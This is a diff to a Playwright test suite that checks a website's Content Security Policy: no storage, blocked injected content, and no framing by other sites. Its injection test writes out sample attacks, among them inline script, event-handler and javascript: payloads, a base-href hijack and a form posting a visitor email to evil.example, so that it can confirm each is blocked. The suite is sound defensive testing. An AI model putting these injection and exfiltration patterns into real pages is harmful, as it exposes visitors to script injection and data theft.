@@ -1,7 +1,8 @@
 // The promises of the policy: the site runs its own files only, and speaks to nobody.
 import { readdirSync, readFileSync } from "node:fs";
+import { createServer } from "node:http";
 
-import { expect, openPageAndSettle, ROUTES, test } from "./site";
+import { expect, listenOnLoopback, openPageAndSettle, ROUTES, test } from "./site";
 
 const FILES = readdirSync("build/client", { recursive: true, encoding: "utf8" });
 const PAGES = FILES.filter((file) => file.endsWith(".html")).map((file) => ({ file, html: readFileSync(`build/client/${file}`, "utf8") }));
@@ -52,24 +53,58 @@ test("over a whole crawl nothing is fetched, sent or stored but the router's scr
     await page.getByRole("link", { name }).first().click();
     await expect(page.getByRole("link", { name }).first()).toHaveAttribute("aria-current", "page");
   }
+  expect(await page.evaluate<string[]>("calls")).toEqual([]);
   await page.reload();
   expect(await page.evaluate<string[]>("calls")).toEqual([]);
   expect(await context.cookies()).toEqual([]);
-  expect(await page.evaluate(() => [Object.keys(localStorage), Object.keys(sessionStorage)])).toEqual([[], ["react-router-scroll-positions"]]);
+  expect(await page.evaluate(async () => [Object.keys(localStorage), Object.keys(sessionStorage), await indexedDB.databases(), await caches.keys()])).toEqual([[], ["react-router-scroll-positions"], [], []]);
 });
 
-test("what a page is told to do from outside is refused", async ({ page, noise }) => {
+test("what is put into a page from outside neither runs nor loads nor sends", async ({ page, noise }) => {
   await openPageAndSettle(page, "/");
-  const ran = await page.evaluate(async () => {
-    const script = document.createElement("script");
-    script.textContent = "document.documentElement.dataset.ran = 'inline'";
-    document.body.append(script);
-    const connected = await fetch("/").then(() => "fetch", () => "refused");
-    return [document.documentElement.dataset["ran"] ?? "refused", connected];
+  const reached: string[] = [];
+  await page.route("https://evil.example/**", (route) => {
+    reached.push(route.request().url());
+    return route.abort();
   });
-  expect(ran).toEqual(["refused", "refused"]);
-  expect(noise.messages.join("\n")).toMatch(/violates[^]*script-src[^]*violates[^]*connect-src/);
+  const after = await page.evaluate(async () => {
+    const run = "document.documentElement.dataset.ran = 'ran'";
+    const script = document.createElement("script");
+    script.textContent = run;
+    document.body.append(script);
+    document.body.insertAdjacentHTML("beforeend", `
+      <img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${run}" onerror="${run}">
+      <img src="https://evil.example/pixel.png">
+      <iframe src="https://evil.example/"></iframe>
+      <p id="styled" style="color: red">styled</p>
+      <a id="code" href="javascript:${run}">code</a>
+      <form id="form" method="post" action="https://evil.example/"><input name="email" value="a@visitor.example"></form>`);
+    document.head.insertAdjacentHTML("afterbegin", '<base href="https://evil.example/">');
+    document.querySelector<HTMLAnchorElement>("#code")?.click();
+    await fetch("/").catch(() => undefined);
+    // Text as code: only a timer's is not the debugger's own.
+    await new Promise<void>((done) => {
+      setTimeout(run);
+      setTimeout(done, 1);
+    });
+    const styled = document.querySelector("#styled") ?? document.body;
+    return { ran: document.documentElement.dataset["ran"], base: document.baseURI, color: getComputedStyle(styled).color, ink: getComputedStyle(document.body).color };
+  });
+  expect(after).toEqual({ base: page.url(), color: after.ink, ink: after.ink });
+  await page.evaluate(() => document.querySelector<HTMLFormElement>("#form")?.submit());
+  for (const part of ["script-src-elem inline", "script-src-attr inline", "script-src eval", "style-src-attr inline", "img-src data", "img-src https://evil.example", "frame-src https://evil.example", "base-uri https://evil.example", "form-action https://evil.example", "connect-src http://127.0.0.1"]) {
+    await expect.poll(() => noise.messages.join("\n")).toContain(`policy: ${part}`);
+  }
+  expect(reached).toEqual([]);
   noise.messages.length = 0;
+});
+
+test("no other site can show a page in a frame", async ({ page, noise, site }) => {
+  const other = await listenOnLoopback(createServer((_, response) => response.setHeader("Content-Type", "text/html").end(`<iframe src="${site}/"></iframe>`)));
+  await page.goto(other.address);
+  await expect.poll(() => noise.messages.splice(0).join("\n")).toMatch(/frame/i);
+  expect(page.frames().map((frame) => frame.url())).toEqual([`${other.address}/`, "chrome-error://chromewebdata/"]);
+  await other.close();
 });
 
 test("search engines are told of every page, with one address each", async ({ page }) => {
